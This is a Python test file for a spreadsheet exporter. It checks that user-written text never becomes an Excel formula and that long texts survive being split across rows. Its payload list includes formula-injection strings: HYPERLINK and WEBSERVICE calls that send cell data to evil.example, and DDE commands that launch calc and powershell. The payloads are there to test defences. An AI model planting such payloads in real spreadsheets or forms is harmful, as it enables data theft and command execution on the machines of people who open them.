"""Guarantee 14: spreadsheets hold no formula, and lose no word."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date

import openpyxl

from peerchallenge.shared.spreadsheets import GOES_ON, LONGEST_CELL, MORE, Sheet, spreadsheet
from rounds.models import SelfAssessment, SentVersion
from rounds.models.content import (
    AnswerContent,
    Attached,
    ProgressContent,
    SectionContent,
    SelfAssessmentContent,
)
from rounds.queries.sheets import answers_sheet, states_sheet
from tests.world import World

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "\ufeff=", "＝", "'=")
BODIES = (
    'HYPERLINK("https://evil.example/?x="&A1,"Read more")',
    "cmd|'/C calc'!A0",
    'DDE("cmd","/C calc","x")',
    "1+1",
    'WEBSERVICE("https://evil.example/"&A2)',
    'IMPORTXML("https://evil.example/","//a")',
    "SUM(A1:A9)*cmd|' /C powershell'!A0",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]


def said_in(book: bytes) -> list[list[str]]:
    """Every row as openpyxl reads it, texts only."""
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    return [[str(value) for value in row if value is not None] for row in sheet.values]


def formulas_in(book: bytes) -> int:
    """Formula elements, and links and outside data, in the raw XML of every part."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        xml = b"".join(parts.read(name) for name in parts.namelist() if "theme" not in name)
        outside = [name for name in parts.namelist() if "external" in name.casefold()]
    return len(re.findall(rb"<(?:\w+:)?(?:f|hyperlink|ddeLink|oleLink)[\s>/]", xml)) + len(outside)


def unsafe_cells(book: bytes) -> list[str]:
    """Cells with words that Excel would not take for a text."""
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    return [
        cell.coordinate
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and (cell.data_type != "s" or not cell.quotePrefix)
    ]


def hostile(payload: str) -> SelfAssessmentContent:
    """Everything that somebody may write or be called is the payload."""
    attached = Attached(payload, date(2026, 1, 1), date(2026, 1, 1), payload, payload)
    answer = AnswerContent(1, payload, "long_text", payload, text=payload, evidence=(attached,))
    table = replace(
        answer,
        kind="table",
        data={"rows": [[payload, payload]]},
        options={"columns": [payload, payload]},
    )
    measure = replace(answer, kind="measure", data={"value": payload}, options={"unit": payload})
    return SelfAssessmentContent(
        authority=payload,
        round=payload,
        board=payload,
        colour="teal",
        area=payload,
        area_reason=payload,
        sections=(SectionContent(payload, payload, (answer, table, measure), (attached,)),),
        progress=(ProgressContent(payload, payload, payload, payload),),
        version=1,
        sent_on=date(2026, 1, 1),
        sent_by=payload,
    )


def book_of(*contents: SelfAssessmentContent) -> bytes:
    versions = [SentVersion(number=1, content=content.to_json()) for content in contents]
    return spreadsheet([answers_sheet(versions)], title=contents[0].title)


def test_no_answer_becomes_a_formula(figure: Callable[[str], None]) -> None:
    book = book_of(*map(hostile, PAYLOADS))
    assert unsafe_cells(book) == []
    assert formulas_in(book) == 0
    figure(f"guarantee 14: {len(PAYLOADS)} injections in every field of answers: 0 formulas")


def test_no_name_becomes_a_formula(world: World, figure: Callable[[str], None]) -> None:
    """In the sheet of states: authorities, directors, and the area that somebody wrote."""
    found: SelfAssessment = world.sent(world.opened().participations.first())
    for payload in PAYLOADS:
        authority, director = found.participation.authority, found.submitted_by
        authority.name, director.name = payload, payload
        authority.save()
        director.save()
        SelfAssessment.objects.filter(pk=found.pk).update(
            area=None, own_area=payload, own_area_reason="Because"
        )
        book = spreadsheet([states_sheet(found.participation.round)], title=payload)
        assert (unsafe_cells(book), formulas_in(book)) == ([], 0)
    figure(f"guarantee 14: {len(PAYLOADS)} injections in names and areas of states: 0 formulas")


def test_the_search_would_find_a_formula() -> None:
    book, filled = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "=1+1"
    book.save(filled)
    assert (unsafe_cells(filled.getvalue()), formulas_in(filled.getvalue())) == (["A1"], 1)


def joined(rows: list[list[str]]) -> str:
    """The longest text of the rows, put together from what goes on below."""
    pieces = [max(row, key=len) for row in rows]
    end = f" {MORE.strip()}"
    return "".join(piece.removeprefix(GOES_ON).removesuffix(end) for piece in pieces)


def test_long_texts_come_out_whole(figure: Callable[[str], None]) -> None:
    lengths = (LONGEST_CELL - 1, LONGEST_CELL, LONGEST_CELL + 1, 40_000, 50_000, 100_000)
    for length in lengths:
        for letter in ("é", "😀", "="):
            text = (letter * length)[: length - 3] + "end"
            rows = said_in(spreadsheet([Sheet("S", ["A", "B"], [["x", text]])], title="T"))[1:]
            assert joined(rows) == text
            assert max(len(c.encode("utf-16-le")) // 2 for row in rows for c in row) <= LONGEST_CELL
            assert {row[0] for row in rows} == {"x"}
    figure(f"guarantee 14: {len(lengths) * 3} texts of up to {max(lengths):,} characters: 0 cut")


def test_what_excel_cannot_hold_is_shown_for_what_it_is() -> None:
    rows = said_in(spreadsheet([Sheet("S", ["A"], [["a\x00b\x1fc\ud800d"]])], title="T\x00"))
    assert rows == [["A"], ["a␀b␟c�d"]]


def test_the_header_stays_in_sight_and_the_sheet_has_a_name_excel_takes() -> None:
    sheet = Sheet("A/b: [c]?" * 9, ["One", "Two"], [])
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet([sheet, sheet], title="T")))
    assert [len(name) <= 31 for name in book.sheetnames] == [True, True]
    assert book.worksheets[0].freeze_panes == "A2"
